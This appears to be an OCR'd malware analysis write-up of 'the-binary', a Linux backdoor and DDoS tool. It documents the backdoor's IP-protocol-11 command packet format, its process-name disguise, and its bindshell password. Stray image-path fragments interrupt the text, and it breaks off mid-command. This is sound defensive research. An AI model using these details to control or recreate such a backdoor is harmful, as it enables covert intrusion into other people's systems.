Analysis: the-binary back door and DOS tool

[email protected]



  1. Tooling up
  2. The environment
  3. Downloading the binary
  4. Initial examination
  5. Disassembly
  6. Running the-binary
  7. A tool to test the-binary
  8. Decoding the protocol9. Working out the bindshell password
  10. Using Snort to detect the-binary command traffic
  11. What we have learnt about the binary

Tooling up

Unix tools: file(1), strings(1), objdump(1), gdb(1), perl(1), make(1L) and gcc(1)

The Reverse Engineers Compiler
REC was used to decompile the-binary to C like structured code, which eased the identification of the program structure.Can be used to regenerate the symbol table of a stripped ELF binary, and do a lot of other reverse engineering tasks.

User Mode Linux
A reasonably safe environment for running and tracing the-binary.

To monitor network traffic to and from the-binary, and analysethe DDOS functions.

To generate packets to send to the-binary to verify functionality.

To capture response packets from the-binary.

A rule for the Snort Network Intrusion Detection System (NIDS) was created to detect control traffic for this binary, and others like it.The Environment

The-binary was disassembled with objdump and REC under a standard RedHat Linux 7.1 install. C source was developed on the host using the libnet and libpcap libraries, in order to excercise the functionality of the-binary. User Mode Linux was installed to provide an environment for executing the-binary.

The-binary was tested under User Mode Linux (UML) using a virtual network consisting of addresses in the range The infected host was configured at, with the client probing from the real host and tcpdump running on the real host. The-binary was largely disassembled before the first test run, to provide some assurance that it would not detect UML and attempt to exploit it to escape to the host OS, or perform other malicious actions. The initial disassembly was also required to determine the packet contents the-binary was expecting.

The drive images used under User Mode Linux where the standard User Mode Linux Debian Minimal and RedHat 7.2 full install drive images where used to provide virtual systems for running and communicating with the-binary.

The host machine on which UML was run did not have any other active network interfaces, to prevent packetsslipping out onto public networks.

This environment was designed to prevent network activity from the infected host from escaping beyond the host running the UML system.

Download the-binary and verify MD5 sum

Having downloaded the-binary.tar.gz from, I verified the MD5 checksum of the archive with the md5sum command, and it matched that shown on the web site.

Initial examination

The Unix file(1) command was used to identify the binary as a statically linked Linux i386 executable. strings(1) was used to examine the-binary for clues as to its purpose and composition. strings revealed that the-binary was probably linked against "The Linux C library 5.3.12", containing "yplib.c,v 2.6 1994/05/27". This library was present in RedHat Linux 6.2, but not RedHat Linux 6.1 or 7.0, so if this program was linked under RedHat, it was probably under RedHat 6.2. Also present are strings indicating that /bin/csh may be used to execute commands, and that /tmp/.hj237349 may be used at some point.

I ran "objdump -dS the-binary" to get a raw disassembly of the-binary for reference when REC did not produce the level of detail required.


I ran REC against the-binary to try to start finding functions and structure.

Initial disassembly with the Reverse Engineers Compiler, REC, revealed a lot of functions containing the "int 0x80" interrupt instruction. This interrupt is used by programs running under Linux to invoke kernel functions, called System Calls, with a command number in EAX.There is a list of Linux system calls in usr/include/asm/unistd.h. To determine the likely purpose of the functions in the REC output, I created a Perl script that would search for lines of REC output where EAX was set, followed by an int 0x80, and mark the interrupt with the system call name out of unistd. This script is in files.tar.

Once I had determined the names of some of the library functions within the REC output, I added them to my REC command file. The argument lists for these commands came from their C header files in /usr/include/. At this point, my REC command file looked something like this:

file: the-binary
cpu: i386

option: +hexconst

region: 0x000090 0x01f5d0 0x08048090 text
region: 0x01f5d8 0x024228 0x080675d8 data
region: 0x024228 0x0302ac 0x0806d228 data

# Standard library functions #
symbol: 0x0804F620, 0x0804F67F T fopen(char *path, char *mode)
symbol: 0x0804F808, 0x0804F81F T sprintf(char *string, char *format)
symbol: 0x0804F820, 0x0804F884 T _IO_sprintf(char *string, char *format)
symbol: 0x08055FBC, 0x0805602B T _exit(int n)
symbol: 0x080569FC, 0x08056A2B T wait4(unsigned int pid, int *status, int options, void *rusage)
symbol: 0x08056A2C, 0x08056A71 T accept(int s, void *address, unsigned int *addrlen)
symbol: 0x08056A74, 0x08056AB9 T bind(int sockfd,void *myaddr, unsigned int *addrlen)
symbol: 0x08056ABC, 0x08056B01 T connect(int sockfd, void *serveraddr, unsigned int addrlen)

To aid in identifying and verifying further library functions, I downloaded the glibc 5.3.12 source and referred to it when I found a prospective library function.

Had I known of it, I could have avoided this time intensive process by running dress(1) from the Fenris reverse engineering toolkit. Dress can regenerate a stripped symbol table of an ELF executable.

To find main() in the-binary, I examined the output of REC and found the ELF entry point function, labelled "__entry_point__". Reading through this standard function revealed a call to a larger function at 0x08048134, which I assumed to be main().

In main(), the lead up to the first for loop contains calls to various functions and can be represented by the summary below:

  1. if euid is not root, exit.
  2. replace the process name in argv[0] with "[mingetty]"
  3. fork and exit the parent process.
  4. setsid()
  5. fork and exit the parent process.
  6. change to the / directory
  7. close file descriptors 0,1,2
  8. open a socket.
  9. receive datagrams.I was interested in the encoding and decoding functions mentioned in the challenge questions. decode() was quickly found by examining the function calls following the call to recv() in main(). I looked here because you cannot do much with a command packet before decoding it. encode() was found by searching for the value 0x17 (a key value in the decode() function) in the rest of the disassembly.

The encode and decode functions are loaded into the following memory areas:
0x0804A194-0x0804A1E6: encode(int length, unsigned char *src, unsigned char *dst)
0x0804A1E8-0x0804A2A4: decode(int length, unsigned char *src, unsigned char *dst)
their disassembly with REC was not to hard to follow, and is included in the files I have submitted.

Examining the functions called by the goto statement shortly after the call to decode() revealed that some of them executed shell commands, command 1 returned the PID of any children that the server had forked and command 2 configured theserver. The code before the goto revealed the format and usage of the first 4 bytes of the packet.

Running the-binary

Now that I knew that the-binary was a network daemon, and what some of its commands did, I ran the-binary under User Mode Linux. User Mode Linux is a Linux kernel that runs under Linux, allowing you to use a file on the host system as a disk drive containing the filesystem for UML.

When run under User Mode Linux, the-binary changes its process name, as visible in ps, to "[mingetty]". This is the name of a terminal program commonly found running on Unix machines, so this is an attempt to obscure the-binary in the process list. The "top" command still shows the original binary name ("the-binary") and /proc shows the-binary has asingle open socket.

the-binary uses IP protocol 11 for communication. This evades simple searches for evidence of a compromise, such as TCP and UDP network scans by nmap, and basic interpretation of netstat output. IP services listening for protocol 11 are shown in the output of "netstat -an" as:

raw        0      0    *               7

A list of supported protocols on a machine can be found by the nmap ( protocol scan, however this could be fooled by having the back door send an ICMP protocol unreachable packet in response to malformed command packets. Nmap -sO outputs the following line when it detects protocol 11:

11         open        nvp-ii

A tool to test the-binary

Using libnet and libpcap, I put together a tool to construct command packets for the-binary based on the packet format I worked out fromthe REC disassembly, and another to dump the packets. By throwing these packets at the-binary and observing it with gdb, I was able to work out almost all of the functionality it provides. These two tools are called pingit.c and dumpit.c, and are included in the attached archive. Running tcpdump in another window allowed me to see the DOS floods when they started.

I rewrote pingit.c to accept parameters from the command line. This new program is called the-client, and it allows control of most aspects of packets being sent to the-binary. the-client.c is also included in the attached files. It does not support a couple of the flood request types, and does not properly receive response packets yet.

Decoding the protocol

Using the REC disassembly, and my tools; dumpit, pingit and the-client, I was able to determine the packet format for all 12 commands and responses.

All command and response packets have a standard IP packet header, which specifies protocol 11. The first word of the data area is an unencoded command/response flag. The rest of the data area is encoded using the encode() function detailed elsewhere in this analysis. The first byte is ignored, and can be used to salt the encode() function so that repeated commands have 255 different possible appearances on the wire. The next byte is the command byte, a number between 1 and 12 that specifies the function being called. The rest of the packet is data for the command.

  0x00        0x14        0x16
  | IP Header | XXX | DIR | SLT | CMD | ARGS
0          IP Header
0x14       XXX Unknown
0x15       DIR Direction:  02 Command
                           03 Reponse
                           04 Reponse Continuation
--- Everything after here encoded ---
0x16       SLT Salt
0x17       CMD Command number
0x18...    ARGS Variable length parameters for CMD

Example packet and response: command 1: status
   Accepts no parameters
     0x00        0x14      0x16
     | IP Header | 00 | 02 | XX | 01 |
0x17       CMD Command number = 1

   Returns PID ofcurrently executing shell or flood process.
     0x00        0x14      0x16
     | IP Header | 00 | 02 | XX | 01 | CHL | PID  |
0x17       CMD Command number = 1
0x18       CHL Flag to indicate if there is a child running
           00 = no child process
           01 = child process
0x19,0x1A  PID Process ID of child process

The rest of the packet formats can be seen in the-client.c and pingit.c

Working out the bindshell passwordExamining the REC disassembly of the bindshell function (CMD_06) reveals that a connection is accepted, the string sent by the client is compared with the value 'TfOjG', and if the strings match the remote user is dropped into a shell.

I used the-client to launch the bindshell, and checked the protocol and port on the host running the-binary with netstat -an. I saw a new port had been opened:

tcp        0      0 *               LISTEN

As it is TCP, we can use telnet to connect. I connected, and tried the password 'TfOjG', but got no response. Looking at the code, newline characters (0x0a and 0x0d in hex) are translated to '\0', so I tried a few newlines after the password with no luck. Re-examining the disassembly revealed that the password was obfuscated, and that each submitted character was incremented by one before checking. I reconnected and tried the password 'SeNiF' followed by spaces with no luck. I decided to use gdb, to compare the strings myself as the-binary saw them.

The disassembly shows that the code forks twice in CMD_06, once after the function is entered so that the main loop can continue processing other commands, and once after accept is called. This could have made interactive disassembly with gdb difficult, as I had already noticed that follow-fork-mode was ineffective, possibly because the-binary was statically linked. Luckily, just after the second fork recv() is called.

As recv() blocks until it receives input, I connected to the bindshell with telnet. This got the bindshell thread upto the recv() command. Using ps I found the process ID of the forked shell, and fired up gdb.

bash-2.05# ps ax | fgrepmingetty
